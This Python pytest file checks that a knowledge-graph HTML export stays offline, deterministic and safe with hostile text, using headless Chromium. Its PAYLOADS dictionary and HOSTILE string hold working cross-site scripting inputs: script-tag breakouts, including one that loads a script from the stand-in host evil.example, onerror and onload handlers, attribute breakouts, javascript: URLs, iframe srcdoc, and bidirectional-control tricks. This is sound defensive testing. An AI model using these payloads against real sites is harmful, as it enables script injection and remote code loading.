"""index.html: offline, deterministic, safe with hostile text, and working in a real headless chromium.

The browser tests run tests/js/browser_check.mjs (playwright-core driving /usr/bin/chromium); it
aborts and records every request other than the page itself. A chromium that cannot start fails
the tests with its own message.
"""
from __future__ import annotations

import json
import re
from pathlib import Path

import networkx as nx
import pytest

from kg.corpus import Corpus
from kg.export.html import MAX_DRAWN, render_html, write_html
from kg.export.jsonfile import read_json
from kg.tables import DocumentRow as DocInfo
from tests.jstools import run_node

QUERY = "新质生产力"
HOSTILE = "新\"质'</script><script>alert(1)</script><!--&amp;"
DATA_BLOCK = re.compile(r'<script type="application/json" id="kg-data">(.*?)</script>', re.S)


def embedded(html: str) -> dict:
    match = DATA_BLOCK.search(html)
    assert match, "no kg-data block"
    return json.loads(match.group(1))


def browser(path: Path, query: str, *more: str) -> dict:
    result = run_node("browser_check.mjs", str(path), query, *more)
    assert result["error"] is None, (
        f"{result['error']}\nconsole errors: {result['console_errors']}\npage errors: {result['page_errors']}"
    )
    return result


@pytest.fixture(scope="module")
def seeds_graph(seeds_build) -> nx.Graph:
    return read_json(seeds_build.out / "graph.json")


@pytest.fixture(scope="module")
def seeds_view(seeds_build, chromium) -> dict:
    return browser(seeds_build.out / "index.html", QUERY)


def node_by_name(g: nx.Graph, name: str) -> str:
    return next(n for n, d in g.nodes(data=True) if d["name"] == name)


# --- the seeds view in chromium ---------------------------------------------------------------------


def test_no_network_request_is_attempted(seeds_view):
    assert seeds_view["blocked"] == []
    assert seeds_view["websockets"] == []
    assert seeds_view["requests"] == [seeds_view["url"]]


def test_no_javascript_errors(seeds_view):
    assert seeds_view["console_errors"] == []
    assert seeds_view["page_errors"] == []
    assert seeds_view["dialogs"] == []


def test_draws_every_connected_entity(seeds_view, seeds_graph):
    connected = sum(1 for n in seeds_graph if seeds_graph.degree(n) > 0)
    assert seeds_view["drawn"] == min(connected, MAX_DRAWN)
    assert seeds_view["edges_drawn"] == seeds_graph.number_of_edges()
    assert seeds_view["cap_note"] == ""


def test_overview_lists_top_entities_and_filters(seeds_view, seeds_graph):
    top = sorted(seeds_graph.nodes, key=lambda n: (-seeds_graph.nodes[n]["pagerank"], n))[:5]
    assert seeds_view["overview"]["top"][:5] == [seeds_graph.nodes[n]["name"] for n in top]
    assert seeds_graph.graph["filters"] in seeds_view["footer"]
    assert seeds_view["search_label"] == "Search entities"


def test_pan_zoom_and_toggles(seeds_view, seeds_graph):
    zoom = seeds_view["zoom"]
    assert zoom["wheel"] > zoom["fitted"] and zoom["button"] < zoom["wheel"] and zoom["panned"]
    toggles = seeds_view["toggles"]
    connected = [n for n in seeds_graph if seeds_graph.degree(n) > 0]
    hidden = sum(1 for n in connected if seeds_graph.nodes[n]["type"] == toggles["first_type"])
    assert toggles["without_first_type"] == len(connected) - hidden
    assert toggles["with_isolated"] == seeds_graph.number_of_nodes()
    assert toggles["after"] == len(connected)


def test_search_finds_and_selects_the_entity(seeds_view):
    assert seeds_view["search"]["options"][0]["name"] == QUERY
    assert seeds_view["search"]["picked"] == QUERY
    panel = seeds_view["panel"]
    assert panel["title"] == QUERY
    assert panel["facts"]["Type"].strip() == "Policy"
    assert panel["selected_visible"]
    assert abs(panel["centre"]["dx"]) <= 2 and abs(panel["centre"]["dy"]) <= 2  # centred in the drawing


def test_panel_lists_neighbours_ranked_by_npmi(seeds_view, seeds_graph):
    node = node_by_name(seeds_graph, QUERY)
    panel = seeds_view["panel"]
    names = [nb["name"] for nb in panel["neighbours"]]
    assert sorted(names) == sorted(seeds_graph.nodes[v]["name"] for v in seeds_graph[node])
    assert panel["measure"] == "npmi"
    values = [float(nb["value"]) for nb in panel["neighbours"]]
    assert values == sorted(values, reverse=True)
    assert panel["highlighted_neighbours"] == len(names)
    assert all(nb["tags"] == ["BUTTON", "BUTTON"] for nb in panel["neighbours"])
    counts = [int(v) for v in seeds_view["by_count"]]
    assert counts == sorted(counts, reverse=True)


def test_evidence_sentences_contain_both_names(seeds_view, seeds_graph):
    panel = seeds_view["panel"]
    other = panel["neighbours"][0]["name"]
    assert panel["neighbours"][0]["pressed"]
    assert panel["evidence_title"] == f"Evidence: {QUERY} — {other}"
    assert panel["evidence"], "no evidence sentence shown"
    both = [ev for ev in panel["evidence"] if QUERY in ev["text"] and other in ev["text"]]
    assert both, panel["evidence"]
    for ev in both:
        assert ["a", QUERY] in ev["marks"] and ["b", other] in ev["marks"]
        assert ev["sentence"].startswith(ev["doc"] + "#s")
    edge = seeds_graph.edges[node_by_name(seeds_graph, QUERY), node_by_name(seeds_graph, other)]
    assert {ev["text"] for ev in panel["evidence"]} >= {e["text"] for e in edge["evidence"]}


def test_clicking_a_node_opens_it_and_panel_is_keyboard_reachable(seeds_view):
    assert seeds_view["click"]["title"] == QUERY
    assert seeds_view["keyboard_reaches_panel"]


# --- determinism ---------------------------------------------------------------------------------------------


def test_same_graph_gives_identical_bytes(seeds_build, tmp_path):
    g, corpus = seeds_build.graph, seeds_build.corpus
    first = write_html(g, corpus, tmp_path / "a.html").read_bytes()
    second = write_html(g, corpus, tmp_path / "b.html").read_bytes()
    assert first == second
    assert first == (seeds_build.out / "index.html").read_bytes()
    shuffled = nx.Graph(**g.graph)  # same graph, nodes and edges inserted in reverse order
    shuffled.add_nodes_from(reversed(list(g.nodes(data=True))))
    shuffled.add_edges_from(reversed([(v, u, d) for u, v, d in g.edges(data=True)]))
    assert render_html(shuffled, corpus).encode("utf-8") == first


def test_large_graph_is_cut_to_the_top_entities_by_pagerank(seeds_graph):
    data = embedded(render_html(seeds_graph, Corpus(), max_nodes=40))
    expected = sorted(
        (n for n in seeds_graph if seeds_graph.degree(n) > 0),
        key=lambda n: (-seeds_graph.nodes[n]["pagerank"], n),
    )[:40]
    assert [n["id"] for n in data["nodes"]] == sorted(expected)
    assert data["meta"]["capped"] and data["meta"]["cap"] == 40
    assert all(data["nodes"][e["a"]]["id"] in expected and data["nodes"][e["b"]]["id"] in expected for e in data["edges"])


# --- hostile text -----------------------------------------------------------------------------------------------


def hostile_graph() -> tuple[nx.Graph, Corpus]:
    """Two entities with the attributes graph.py gives them; one name is an attempt at script injection."""
    g = nx.Graph(window="sentence", units=10, documents=1, filters=f"min count 2 {HOSTILE}")
    for eid, name, type_ in (("pol_hostile", HOSTILE, "Policy"), ("pol_other", "科技创新", "Policy")):
        g.add_node(
            eid, id=eid, name=name, label=name, type=type_, category="concept", aliases=[f"{name}<b>"],
            source="lexicon", mentions=3, documents=1, units=3, first_date="2024", last_date="2024",
            degree=1, weighted_degree=2, pagerank=0.5, community=0,
        )
    sentence = f"{HOSTILE}与科技创新同时出现。"
    g.add_edge(
        "pol_hostile", "pol_other", count=2, doc_count=1, weight=2, pmi=1.5, npmi=0.4, jaccard=0.5, llr=3.2,
        first_date="2024", doc_ids=["d1"], kind="co-occurrence", relations=[],
        evidence=[{"doc": "d1", "sentence": "d1#s0", "start": 0, "end": len(sentence), "text": sentence}],
    )
    corpus = Corpus()
    corpus.documents.append(DocInfo("d1", "d1.txt", "txt", HOSTILE, "", "2024", "year", "path", 100, 1, 1, 6))
    return g, corpus


def test_hostile_text_is_stored_as_data(tmp_path):
    g, corpus = hostile_graph()
    html = write_html(g, corpus, tmp_path / "index.html").read_text(encoding="utf-8")
    assert html.count("</script") == 2  # the data block's and the code's own
    assert "<script>alert" not in html and "<!--" not in html
    data = embedded(html)
    assert data["nodes"][0]["name"] == HOSTILE
    assert data["edges"][0]["evidence"][0]["text"].startswith(HOSTILE)
    assert data["docs"]["d1"]["title"] == HOSTILE
    assert "innerHTML" not in html and "insertAdjacentHTML" not in html and "document.write" not in html
    outside_data = DATA_BLOCK.sub("", html)
    assert set(re.findall(r"https?://[^\s'\"]+", outside_data)) == {"http://www.w3.org/2000/svg"}


def test_hostile_text_is_shown_as_text_in_the_browser(tmp_path, chromium):
    g, corpus = hostile_graph()
    view = browser(write_html(g, corpus, tmp_path / "index.html"), "alert")
    assert view["dialogs"] == [] and view["console_errors"] == [] and view["page_errors"] == []
    assert view["requests"] == [view["url"]] and view["blocked"] == []
    assert view["scripts"] == ["application/json", "text/javascript"] and view["scripts_after"] == 2
    assert view["panel"]["title"] == HOSTILE
    assert view["panel"]["facts"]["Aliases"] == f"{HOSTILE}<b>"
    assert view["panel"]["evidence"][0]["text"] == f"{HOSTILE}与科技创新同时出现。"
    assert ["a", HOSTILE] in view["panel"]["evidence"][0]["marks"]
    assert view["drawn"] == 2


# --- hostile names and sentences of every kind, each selected in chromium ------------------------------------

#: Names that try to end the data block, add elements with event handlers, break out of an attribute, run a
#: javascript: URL, or reorder what is shown around them with bidirectional controls (a stray PDI closing an
#: isolate early, then an override). Each payload would set window.__pwned, change the title or alert.
PAYLOADS = {
    "script": "新质</SCRIPT ><script>window.__pwned=true;alert(2)</script><script src=//evil.example/x.js></script>",
    "img": "<img src=x onerror=\"window.__pwned=true;document.title='pwned'\">科技",
    "attribute": "\" autofocus onfocus=\"window.__pwned=true\" x=\"治理",
    "javascript": "javascript:window.__pwned=true;alert(3)//政策",
    "svg": "<svg onload=alert(4)><a xlink:href=javascript:alert(5)><text>点击</text></a></svg>",
    "iframe": "<iframe srcdoc='<script>parent.__pwned=true</script>'></iframe>会议",
    "bidi": "\u202e新质\u2066生产力\u2069\u202c",
    "trojan": "科技部\u2069\u202e)后以(\u2066",
}
#: What to type in the search box to pick each one.
PICK = {"script": "alert(2)", "img": "onerror", "attribute": "autofocus", "javascript": "javascript",
        "svg": "onload", "iframe": "srcdoc", "bidi": "新质生产力", "trojan": "科技部"}
BIDI_CONTROLS = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
FORBIDDEN_TAGS = {"img", "iframe", "object", "embed", "a", "form", "base", "link", "image", "foreignobject", "use", "frame"}


def shown(text: str) -> str:
    """Text as the page shows it: without bidirectional controls (view.js, ``shown``)."""
    return BIDI_CONTROLS.sub("", text)


def payload_graph() -> tuple[nx.Graph, Corpus]:
    """Every payload as an entity co-occurring with 科技创新, with its own evidence sentence and document."""
    g = nx.Graph(window="sentence", units=10, documents=len(PAYLOADS), filters=f"min count 2 {PAYLOADS['trojan']}")
    attrs = dict(category="concept", source="lexicon", mentions=3, documents=1, units=3, first_date="2024",
                 last_date="2024", degree=1, weighted_degree=2, pagerank=0.1, community=0)
    g.add_node("pol_hub", id="pol_hub", name="科技创新", label="科技创新", type="Policy", aliases=[], **attrs)
    corpus = Corpus()
    for key, name in PAYLOADS.items():
        eid, doc = f"pol_{key}", f"d_{key}"
        g.add_node(eid, id=eid, name=name, label=name, type="Policy", aliases=[f"{name}别名"], **attrs)
        sentence = f"{name}与科技创新同时出现。"
        g.add_edge(eid, "pol_hub", count=2, doc_count=1, weight=2, pmi=1.5, npmi=0.4, jaccard=0.5, llr=3.2,
                   first_date="2024", doc_ids=[doc], kind="co-occurrence", relations=[],
                   evidence=[{"doc": doc, "sentence": f"{doc}#s0", "start": 0, "end": len(sentence), "text": sentence}])
        corpus.documents.append(DocInfo(doc, f"{name}.txt", "txt", name, name, "2024", "year", "path", 100, 1, 1, 6))
    return g, corpus


def test_payloads_are_stored_as_data(tmp_path):
    g, corpus = payload_graph()
    html = write_html(g, corpus, tmp_path / "index.html").read_text(encoding="utf-8")
    assert html.lower().count("</script") == 2 and html.lower().count("<script") == 2
    outside = DATA_BLOCK.sub("", html)
    for payload in PAYLOADS.values():
        assert payload not in outside
    for marker in ("<img", "<svg onload", "<iframe"):  # in the data only, escaped (\\u003c): no markup
        assert marker not in html.lower()
    data = embedded(html)
    assert {n["name"] for n in data["nodes"]} == {*PAYLOADS.values(), "科技创新"}  # kept verbatim in the data


@pytest.fixture(scope="module")
def payload_view(tmp_path_factory, chromium) -> dict:
    """The payload page in chromium: 科技创新 selected (every payload among its neighbours), then each
    payload searched for and selected in turn (``more``)."""
    g, corpus = payload_graph()
    page = write_html(g, corpus, tmp_path_factory.mktemp("payloads") / "index.html")
    return browser(page, "科技创新", *PICK.values())


def test_no_payload_runs(payload_view):
    view = payload_view
    assert view["dialogs"] == [] and view["page_errors"] == [] and view["console_errors"] == []
    assert view["requests"] == [view["url"]] and view["blocked"] == [] and view["websockets"] == []
    title = f"Knowledge graph · {len(PAYLOADS) + 1} entities"
    moments = [("loaded", view["dom_loaded"]), ("selected", view["dom_selected"]), ("after", view["dom_after"])]
    for name, dom in moments + [(m["query"], m["dom"]) for m in view["more"]]:
        assert dom["title"] == title and not dom["pwned"], name
        assert dom["on_attributes"] == [] and dom["script_urls"] == [], name
        assert not FORBIDDEN_TAGS & set(dom["tags"]), (name, dom["tags"])
        assert dom["tags"]["script"] == 2 and dom["tags"]["svg"] == 1, name
        assert dom["bidi_in_text"] == [] and dom["bidi_in_attributes"] == [], name  # nothing can reorder the page


def test_every_payload_is_a_neighbour_shown_as_text(payload_view):
    panel = payload_view["panel"]
    assert panel["title"] == "科技创新"
    assert sorted(nb["name"] for nb in panel["neighbours"]) == sorted(shown(p) for p in PAYLOADS.values())
    labels = set(payload_view["dom_loaded"]["texts"])
    assert {shown(p) for p in PAYLOADS.values()} <= labels  # the labels in the drawing


@pytest.mark.parametrize("key", list(PAYLOADS))
def test_each_payload_selected_shows_as_text(key, payload_view):
    name = PAYLOADS[key]
    seen = next(m for m in payload_view["more"] if m["query"] == PICK[key])
    panel = seen["panel"]
    assert seen["picked"] == panel["title"] == shown(name)
    assert panel["facts"]["Aliases"] == shown(f"{name}别名")
    assert panel["evidence"][0]["text"] == shown(f"{name}与科技创新同时出现。")
    assert ["a", shown(name)] in panel["evidence"][0]["marks"]
    assert panel["evidence"][0]["doc"] == f"d_{key}"
